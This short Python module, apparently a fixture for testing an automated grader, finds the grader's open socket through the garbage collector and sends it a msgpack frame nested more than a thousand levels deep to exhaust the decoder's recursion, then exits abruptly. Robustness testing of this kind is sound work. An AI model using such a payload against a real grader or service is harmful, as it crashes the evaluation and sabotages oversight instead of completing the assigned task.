"""Answers with lists inside lists, deeper than a reader may recurse."""

import gc
import os
import socket

import msgpack

from grader.channel import send_frame

EXERCISE = "any"
LINK = next(each for each in gc.get_objects() if isinstance(each, socket.socket))


def __getattr__(name):
    tree = ["list"]
    for _ in range(250):
        tree = ["list", tree]
    tree = b"\x92\x90" + b"\x92\xa4list" * 900 + msgpack.packb(tree)
    send_frame(LINK, b"a\2\0\0\0" + tree)
    os._exit(0)
